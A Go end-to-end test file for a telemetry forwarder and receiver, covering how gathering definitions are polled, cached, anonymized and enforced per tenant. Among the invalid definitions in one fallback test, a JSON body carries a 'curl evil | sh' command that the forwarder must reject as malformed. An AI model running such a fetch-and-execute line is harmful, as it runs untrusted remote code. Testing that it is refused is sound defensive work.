package e2e

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/phonehome/phonehome/gathering"
	"github.com/phonehome/phonehome/relabel"
)

// gatheringForwarderArgs runs the forwarder with the fleet token exchanged
// at /authorize, the definition polled every second from gatheringURL and,
// unless local is given, no local selectors (so nothing is collected before
// a definition is in force).
func gatheringForwarderArgs(t *testing.T, prom, to, gatheringURL, queueDir string, local ...string) []string {
	t.Helper()
	dir := t.TempDir()
	salt := filepath.Join(dir, "salt")
	require.NoError(t, os.WriteFile(salt, []byte(fwdSalt+"\n"), 0o600))
	tok := filepath.Join(dir, "fleet-token")
	require.NoError(t, os.WriteFile(tok, []byte(authzFleetToken+"\n"), 0o600))
	cfg := filepath.Join(dir, "forwarder.yaml")
	require.NoError(t, os.WriteFile(cfg, []byte("send:\n  min_backoff: 100ms\n  max_backoff: 500ms\n  flush_timeout: 2s\n"+
		"authorize:\n  min_backoff: 100ms\n  max_backoff: 1s\n"+
		"gathering:\n  interval: 1s\n  jitter: 0.1\n  timeout: 5s\n"), 0o600))
	args := []string{
		"--from=" + prom, "--to=" + to, "--to-token-file=" + tok,
		"--id=" + fwdClusterID, "--anonymize-salt-file=" + salt,
		"--gathering-url=" + gatheringURL,
		"--queue.dir=" + queueDir, "--config.file=" + cfg, "--interval=1s",
		"--listen=127.0.0.1:0", "--log.format=json",
	}
	for _, m := range local {
		args = append(args, "--match="+m)
	}
	return args
}

// seriesNow returns the series of q's instant result at now, as label maps.
func seriesNow(t *testing.T, base, q string) []map[string]string {
	t.Helper()
	var out []map[string]string
	for _, s := range instant(t, base, authzReadToken, q, time.Now()).Result {
		out = append(out, s.Metric)
	}
	return out
}

// The definition on the receiver changes, and within one poll the new
// series arrive, anonymized as the new definition says. Unchanged polls are
// 304s without a body; an invalid file on the receiver keeps the previous
// definition; the receiver enforces the definition (plus the previous
// one during the grace period) on writes.
func TestGatheringE2E(t *testing.T) {
	hashedID := relabel.Anonymize([]byte(fwdSalt), fwdClusterID)
	prom := startFixturePrometheus(t, fixtureExporter(t))
	waitFederated(t, prom.URL())

	dir := t.TempDir()
	defFile := filepath.Join(dir, "gathering.yaml")
	require.NoError(t, os.WriteFile(defFile, []byte("version: v1\nselectors:\n  - cluster_version\n"), 0o600))
	cfg := writeAuthorizeReceiverConfig(t, dir, "gathering:\n  file: gathering.yaml\n  reload_interval: 1s\n  grace_period: 10m\n")
	recv := startReceiver(t, cfg, filepath.Join(dir, "data"))
	fwd := startBinary(t, "forwarder", gatheringForwarderArgs(t, prom.URL(), recv.URL(), recv.URL()+"/api/v1/gathering", filepath.Join(dir, "queue"))...)

	// v1: only cluster_version, and the info series naming v1.
	eventually(t, time.Minute, func() error {
		if s := seriesNow(t, recv.URL(), fmt.Sprintf(`%s{version="v1",_id=%q}`, gathering.InfoMetric, hashedID)); len(s) != 1 {
			return fmt.Errorf("info series: %v", s)
		}
		if s := seriesNow(t, recv.URL(), `cluster_version`); len(s) != 4 {
			return fmt.Errorf("%d cluster_version series", len(s))
		}
		return nil
	})
	require.Empty(t, seriesNow(t, recv.URL(), `{__name__=~".+",__name__!~"cluster_version|`+gathering.InfoMetric+`"}`), "nothing outside v1")

	// Unchanged: polls are 304 and transfer no body.
	mfs := scrapeMetrics(t, fwd.URL())
	bodyBytes := metricValue(mfs, "phonehome_forward_gathering_body_bytes_total", nil)
	require.Positive(t, bodyBytes)
	notModified := metricValue(mfs, "phonehome_forward_gathering_polls_total", map[string]string{"result": "not_modified"})
	eventually(t, 30*time.Second, func() error {
		if v := metricsValue(t, fwd.URL(), "phonehome_forward_gathering_polls_total", map[string]string{"result": "not_modified"}); v < notModified+2 {
			return fmt.Errorf("%v not modified polls", v)
		}
		return nil
	})
	require.Equal(t, bodyBytes, metricsValue(t, fwd.URL(), "phonehome_forward_gathering_body_bytes_total", nil), "304s carry no body")
	require.Positive(t, metricsValue(t, recv.URL(), "phonehome_gathering_requests_total", map[string]string{"code": "304"}))

	// Server-side enforcement with a cluster credential of the tenant.
	code, cred := authorize(t, recv.URL(), authzFleetToken, "another-cluster")
	require.Equal(t, http.StatusOK, code)
	now := time.Now().UnixMilli()
	code, body, err := postWrite(http.DefaultClient, recv.URL(), cred, encodeWrite(t, oneSeries("cluster_operator_up", now, "name", "x")), nil)
	require.NoError(t, err)
	require.Equal(t, http.StatusBadRequest, code, "outside the served definition: %s", body)

	// v2 adds a selector and a label to anonymize.
	require.NoError(t, os.WriteFile(defFile, []byte("version: v2\nselectors: [cluster_version, cluster_operator_up]\nanonymize_labels: [name]\n"), 0o600))
	changed := time.Now()
	eventually(t, time.Minute, func() error {
		s := seriesNow(t, recv.URL(), `cluster_operator_up`)
		if len(s) != 27 {
			return fmt.Errorf("%d cluster_operator_up series", len(s))
		}
		for _, m := range s {
			if m["name"] == "authentication" || len(m["name"]) != 22 {
				return fmt.Errorf("name not anonymized: %v", m)
			}
		}
		return nil
	})
	t.Logf("v2 in force at the receiver's storage %v after the change", time.Since(changed))
	auth := relabel.Anonymize([]byte(fwdSalt), "authentication")
	require.Len(t, seriesNow(t, recv.URL(), fmt.Sprintf(`cluster_operator_up{name=%q,_id=%q}`, auth, hashedID)), 1)
	require.Len(t, seriesNow(t, recv.URL(), fmt.Sprintf(`%s{version="v2"}`, gathering.InfoMetric)), 1)
	require.Equal(t, 1.0, metricsValue(t, fwd.URL(), "phonehome_forward_gathering_definition_info", map[string]string{"version": "v2", "source": "fleet"}))

	// An invalid file on the receiver: counted, v2 stays served.
	require.NoError(t, os.WriteFile(defFile, []byte("version: v3\nselectors: ['up{']\n"), 0o600))
	eventually(t, 30*time.Second, func() error {
		if v := metricsValue(t, recv.URL(), "phonehome_gathering_reloads_total", map[string]string{"result": "failure"}); v < 1 {
			return fmt.Errorf("%v failed reloads", v)
		}
		return nil
	})
	require.Equal(t, 1.0, metricsValue(t, recv.URL(), "phonehome_gathering_served_definition_info", map[string]string{"version": "v2"}))

	// v3 drops cluster_operator_up: during the grace period the receiver
	// still accepts it (forwarders that have not polled yet), but not
	// what neither version selects.
	require.NoError(t, os.WriteFile(defFile, []byte("version: v3\nselectors: [cluster_version]\n"), 0o600))
	eventually(t, 30*time.Second, func() error {
		if v := metricsValue(t, recv.URL(), "phonehome_gathering_served_definition_info", map[string]string{"version": "v3"}); v != 1 {
			return fmt.Errorf("v3 not served yet")
		}
		return nil
	})
	now = time.Now().UnixMilli()
	code, body, err = postWrite(http.DefaultClient, recv.URL(), cred, encodeWrite(t, oneSeries("cluster_operator_up", now, "name", "x")), nil)
	require.NoError(t, err)
	require.Equal(t, http.StatusNoContent, code, "previous version within the grace period: %s", body)
	code, _, err = postWrite(http.DefaultClient, recv.URL(), cred, encodeWrite(t, oneSeries("secret_metric", now)), nil)
	require.NoError(t, err)
	require.Equal(t, http.StatusBadRequest, code)
	eventually(t, 30*time.Second, func() error {
		if v := metricsValue(t, fwd.URL(), "phonehome_forward_gathering_definition_info", map[string]string{"version": "v3", "source": "fleet"}); v != 1 {
			return fmt.Errorf("forwarder not on v3")
		}
		return nil
	})
	mfs = scrapeMetrics(t, fwd.URL())
	require.Zero(t, metricValue(mfs, "phonehome_forward_dropped_samples_total", map[string]string{"reason": "http_4xx"}), "the forwarder's writes were never refused")
	fwd.Stop()
}

// definitionServer is a fake fleet endpoint that serves whatever it is given.
type definitionServer struct {
	mu   sync.Mutex
	body string
	srv  *httptest.Server
}

func newDefinitionServer(t *testing.T, body string) *definitionServer {
	t.Helper()
	ds := &definitionServer{body: body}
	ds.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		ds.mu.Lock()
		b := ds.body
		ds.mu.Unlock()
		etag := gathering.ETag([]byte(b))
		w.Header().Set("ETag", etag)
		if r.Header.Get("If-None-Match") == etag {
			w.WriteHeader(http.StatusNotModified)
			return
		}
		_, _ = w.Write([]byte(b))
	}))
	t.Cleanup(ds.srv.Close)
	return ds
}

func (ds *definitionServer) set(body string) {
	ds.mu.Lock()
	defer ds.mu.Unlock()
	ds.body = body
}

// An invalid definition is served: the forwarder keeps the previous one and
// its metrics say why. Then the definition endpoint is unreachable at start:
// the forwarder uses its cache, and without a cache its local selectors.
func TestGatheringForwarderFallbackE2E(t *testing.T) {
	hashedID := relabel.Anonymize([]byte(fwdSalt), fwdClusterID)
	prom := startFixturePrometheus(t, fixtureExporter(t))
	waitFederated(t, prom.URL())
	dir := t.TempDir()
	recv := startReceiver(t, writeAuthorizeReceiverConfig(t, dir, ""), filepath.Join(dir, "data"))
	ds := newDefinitionServer(t, `{"version":"v1","selectors":["cluster_version"]}`)
	queue := filepath.Join(dir, "queue")
	fwd := startBinary(t, "forwarder", gatheringForwarderArgs(t, prom.URL(), recv.URL(), ds.srv.URL, queue)...)
	eventually(t, time.Minute, func() error {
		if v := metricsValue(t, fwd.URL(), "phonehome_forward_gathering_definition_info", map[string]string{"version": "v1", "source": "fleet"}); v != 1 {
			return fmt.Errorf("v1 not in force")
		}
		return nil
	})

	for _, bad := range []struct{ body, reason string }{
		{`{"version":"v2","selectors":["cluster_version","up{"]}`, "invalid"},
		{`{"version":"v2","selectors":["up"],"command":"curl evil | sh"}`, "malformed"},
		{`{"version":"v2","selectors":["up"],"min_forwarder_version":"99.0.0"}`, "forwarder_too_old"},
	} {
		ds.set(bad.body)
		eventually(t, 30*time.Second, func() error {
			if v := metricsValue(t, fwd.URL(), "phonehome_forward_gathering_poll_failures_total", map[string]string{"reason": bad.reason}); v < 1 {
				return fmt.Errorf("no %s failure counted", bad.reason)
			}
			return nil
		})
		require.Equal(t, 1.0, metricsValue(t, fwd.URL(), "phonehome_forward_gathering_definition_info", map[string]string{"version": "v1", "source": "fleet"}), "v1 stays in force")
	}
	// The series keep following v1.
	eventually(t, 30*time.Second, func() error {
		if s := seriesNow(t, recv.URL(), fmt.Sprintf(`%s{version="v1",_id=%q}`, gathering.InfoMetric, hashedID)); len(s) != 1 {
			return fmt.Errorf("info series: %v", s)
		}
		return nil
	})
	require.Empty(t, seriesNow(t, recv.URL(), `up`), "the refused definitions selected up; nothing of it was collected")
	fwd.Stop()

	// Unreachable at start, with the cache of v1 in the queue directory.
	gone := "http://" + freeAddr(t) + "/api/v1/gathering"
	fwd = startBinary(t, "forwarder", gatheringForwarderArgs(t, prom.URL(), recv.URL(), gone, queue, "up")...)
	eventually(t, 30*time.Second, func() error {
		mfs := scrapeMetrics(t, fwd.URL())
		if v := metricValue(mfs, "phonehome_forward_gathering_definition_info", map[string]string{"version": "v1", "source": "cache"}); v != 1 {
			return fmt.Errorf("cache not in force")
		}
		if v := metricValue(mfs, "phonehome_forward_gathering_poll_failures_total", map[string]string{"reason": "unreachable"}); v < 1 {
			return fmt.Errorf("no unreachable poll yet")
		}
		if v := metricValue(mfs, "phonehome_forward_cycles_total", map[string]string{"result": "success"}); v < 2 {
			return fmt.Errorf("%v cycles", v)
		}
		return nil
	})
	require.Empty(t, seriesNow(t, recv.URL(), `up`), "the cached definition wins over the local selectors")
	fwd.Stop()

	// Unreachable at start and no cache: the local selectors.
	fwd = startBinary(t, "forwarder", gatheringForwarderArgs(t, prom.URL(), recv.URL(), gone, filepath.Join(dir, "queue2"), "up")...)
	eventually(t, time.Minute, func() error {
		if v := metricsValue(t, fwd.URL(), "phonehome_forward_gathering_definition_info", map[string]string{"version": "local", "source": "local"}); v != 1 {
			return fmt.Errorf("local not in force")
		}
		if s := seriesNow(t, recv.URL(), fmt.Sprintf(`up{_id=%q}`, hashedID)); len(s) < 17 {
			return fmt.Errorf("%d up series", len(s))
		}
		if s := seriesNow(t, recv.URL(), fmt.Sprintf(`%s{version="local"}`, gathering.InfoMetric)); len(s) != 1 {
			return fmt.Errorf("info series: %v", s)
		}
		return nil
	})
	fwd.Stop()
}

// getGathering reads base's gathering definition with token, sending
// If-None-Match when inm is set: the status, body and ETag.
func getGathering(t *testing.T, base, token, inm string) (int, string, string) {
	t.Helper()
	r, err := http.NewRequest(http.MethodGet, base+"/api/v1/gathering", nil)
	require.NoError(t, err)
	r.Header.Set("Authorization", "Bearer "+token)
	if inm != "" {
		r.Header.Set("If-None-Match", inm)
	}
	resp, err := http.DefaultClient.Do(r)
	require.NoError(t, err)
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	require.NoError(t, err)
	return resp.StatusCode, string(b), resp.Header.Get("ETag")
}

// Two tenants with definitions of their own (and no default) are served
// and held to their own; a tenant with neither gets 404. The grace period
// of a change survives a receiver restart: the previous version's series
// are still accepted afterwards.
func TestGatheringPerTenantE2E(t *testing.T) {
	dir := t.TempDir()
	writeSigningKey(t, dir, "k1")
	require.NoError(t, os.WriteFile(filepath.Join(dir, "tokens.yaml"), []byte(
		"tokens:\n"+
			"- {token: a-fleet, tenant: a, allow: [authorize]}\n- {token: a-read, tenant: a, allow: [read]}\n"+
			"- {token: b-fleet, tenant: b, allow: [authorize]}\n- {token: b-read, tenant: b, allow: [read]}\n"+
			"- {token: c-read, tenant: c, allow: [read]}\n"), 0o600))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "a.yaml"), []byte("version: a1\nselectors: [a_metric]\n"), 0o600))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "b.yaml"), []byte("version: b1\nselectors: [b_metric]\n"), 0o600))
	cfg := filepath.Join(dir, "receiver.yaml")
	require.NoError(t, os.WriteFile(cfg, []byte("auth:\n  tokens_file: tokens.yaml\n  keys_file: keys.yaml\n  credential_ttl: 1m\n"+
		"gathering:\n  tenants:\n    a: a.yaml\n    b: b.yaml\n  reload_interval: 1s\n  grace_period: 10m\n"), 0o600))
	data := filepath.Join(dir, "data")
	recv := startReceiver(t, cfg, data)

	// Each tenant its own body and ETag.
	code, bodyA, etagA := getGathering(t, recv.URL(), "a-read", "")
	require.Equal(t, http.StatusOK, code)
	require.Contains(t, bodyA, `"version":"a1"`)
	code, bodyB, etagB := getGathering(t, recv.URL(), "b-read", "")
	require.Equal(t, http.StatusOK, code)
	require.Contains(t, bodyB, `"version":"b1"`)
	require.NotEqual(t, etagA, etagB)
	code, body, _ := getGathering(t, recv.URL(), "a-read", etagA)
	require.Equal(t, http.StatusNotModified, code)
	require.Empty(t, body)
	code, _, _ = getGathering(t, recv.URL(), "b-read", etagA)
	require.Equal(t, http.StatusOK, code, "a's ETag is not b's")
	code, body, _ = getGathering(t, recv.URL(), "c-read", "")
	require.Equal(t, http.StatusNotFound, code)
	require.Contains(t, body, "no gathering definition")

	// Each tenant held to its own definition.
	post := func(base, cred, name string) int {
		t.Helper()
		code, body, err := postWrite(http.DefaultClient, base, cred, encodeWrite(t, oneSeries(name, time.Now().UnixMilli())), nil)
		require.NoError(t, err)
		t.Logf("write %s: %d %s", name, code, body)
		return code
	}
	creds := func(base string) (string, string) {
		t.Helper()
		code, a := authorize(t, base, "a-fleet", "cluster-a")
		require.Equal(t, http.StatusOK, code)
		code, b := authorize(t, base, "b-fleet", "cluster-b")
		require.Equal(t, http.StatusOK, code)
		return a, b
	}
	credA, credB := creds(recv.URL())
	require.Equal(t, http.StatusNoContent, post(recv.URL(), credA, "a_metric"))
	require.Equal(t, http.StatusBadRequest, post(recv.URL(), credA, "b_metric"), "b's definition does not admit a's series")
	require.Equal(t, http.StatusNoContent, post(recv.URL(), credB, "b_metric"))
	require.Equal(t, http.StatusBadRequest, post(recv.URL(), credB, "a_metric"))

	// a's definition changes; b's is unaffected.
	require.NoError(t, os.WriteFile(filepath.Join(dir, "a.yaml"), []byte("version: a2\nselectors: [a_new]\n"), 0o600))
	eventually(t, 30*time.Second, func() error {
		if v := metricsValue(t, recv.URL(), "phonehome_gathering_served_definition_info", map[string]string{"tenant": "a", "version": "a2"}); v != 1 {
			return fmt.Errorf("a2 not served yet")
		}
		return nil
	})
	require.Equal(t, 1.0, metricsValue(t, recv.URL(), "phonehome_gathering_served_definition_info", map[string]string{"tenant": "b", "version": "b1"}))
	code, _, _ = getGathering(t, recv.URL(), "b-read", etagB)
	require.Equal(t, http.StatusNotModified, code)

	// Restart inside the grace period: a1's series are still accepted.
	recv.Stop()
	recv = startReceiver(t, cfg, data)
	credA, credB = creds(recv.URL())
	code, body, _ = getGathering(t, recv.URL(), "a-read", "")
	require.Equal(t, http.StatusOK, code)
	require.Contains(t, body, `"version":"a2"`)
	require.Equal(t, http.StatusNoContent, post(recv.URL(), credA, "a_new"))
	require.Equal(t, http.StatusNoContent, post(recv.URL(), credA, "a_metric"), "a1 within the grace period, across the restart")
	require.Equal(t, http.StatusBadRequest, post(recv.URL(), credA, "secret_metric"))
	require.Equal(t, http.StatusBadRequest, post(recv.URL(), credB, "a_metric"), "a's previous version is not b's")
	require.Equal(t, http.StatusNoContent, post(recv.URL(), credB, "b_metric"))
	recv.Stop()
}

// Each replaced version keeps its own grace period (a1 → a2 → a3: a1's
// series are still accepted), across a restart; a tenant whose own file is
// removed from the configuration is served the default at once, but its
// last own versions stay accepted on top of the default's selectors.
func TestGatheringGraceHistoryE2E(t *testing.T) {
	dir := t.TempDir()
	writeSigningKey(t, dir, "k1")
	write := func(name, body string) {
		t.Helper()
		require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(body), 0o600))
	}
	write("tokens.yaml", "tokens:\n"+
		"- {token: a-fleet, tenant: a, allow: [authorize]}\n- {token: a-read, tenant: a, allow: [read]}\n"+
		"- {token: b-fleet, tenant: b, allow: [authorize]}\n")
	write("default.yaml", "version: d1\nselectors: [default_metric]\n")
	write("a.yaml", "version: a1\nselectors: [a_metric]\n")
	const common = "auth:\n  tokens_file: tokens.yaml\n  keys_file: keys.yaml\n  credential_ttl: 1m\n" +
		"gathering:\n  file: default.yaml\n  reload_interval: 1s\n  grace_period: 10m\n"
	write("receiver.yaml", common+"  tenants:\n    a: a.yaml\n")
	cfg := filepath.Join(dir, "receiver.yaml")
	data := filepath.Join(dir, "data")
	recv := startReceiver(t, cfg, data)

	post := func(cred, name string) int {
		t.Helper()
		code, body, err := postWrite(http.DefaultClient, recv.URL(), cred, encodeWrite(t, oneSeries(name, time.Now().UnixMilli())), nil)
		require.NoError(t, err)
		t.Logf("write %s: %d %s", name, code, body)
		return code
	}
	creds := func() (string, string) {
		t.Helper()
		code, a := authorize(t, recv.URL(), "a-fleet", "cluster-a")
		require.Equal(t, http.StatusOK, code)
		code, b := authorize(t, recv.URL(), "b-fleet", "cluster-b")
		require.Equal(t, http.StatusOK, code)
		return a, b
	}
	served := func(version string) {
		t.Helper()
		eventually(t, 30*time.Second, func() error {
			if v := metricsValue(t, recv.URL(), "phonehome_gathering_served_definition_info", map[string]string{"tenant": "a", "version": version}); v != 1 {
				return fmt.Errorf("%s not served yet", version)
			}
			return nil
		})
	}

	// a1 → a2 (a typo) → a3, within seconds.
	write("a.yaml", "version: a2\nselectors: [a_typo]\n")
	served("a2")
	write("a.yaml", "version: a3\nselectors: [a_third]\n")
	served("a3")
	credA, _ := creds()
	require.Equal(t, http.StatusNoContent, post(credA, "a_third"))
	require.Equal(t, http.StatusNoContent, post(credA, "a_metric"), "a1, two changes ago")
	require.Equal(t, http.StatusBadRequest, post(credA, "secret_metric"))

	// Restart: the same.
	recv.Stop()
	recv = startReceiver(t, cfg, data)
	credA, _ = creds()
	require.Equal(t, http.StatusNoContent, post(credA, "a_metric"), "a1, across the restart")
	require.Equal(t, http.StatusNoContent, post(credA, "a_typo"))

	// a's file is removed from the configuration: restart.
	recv.Stop()
	write("receiver.yaml", common)
	recv = startReceiver(t, cfg, data)
	credA, credB := creds()
	code, body, _ := getGathering(t, recv.URL(), "a-read", "")
	require.Equal(t, http.StatusOK, code)
	require.Contains(t, body, `"version":"d1"`, "the default is served at once")
	require.Equal(t, http.StatusNoContent, post(credA, "default_metric"))
	require.Equal(t, http.StatusNoContent, post(credA, "a_third"), "a's last own definition, within its grace period")
	require.Equal(t, http.StatusNoContent, post(credA, "a_metric"), "and the versions before it")
	require.Equal(t, http.StatusBadRequest, post(credA, "secret_metric"))
	require.Equal(t, http.StatusBadRequest, post(credB, "a_third"), "a's versions are not b's")
	require.FileExists(t, filepath.Join(data, "gathering", "tenants", "a.json"))
	recv.Stop()
}
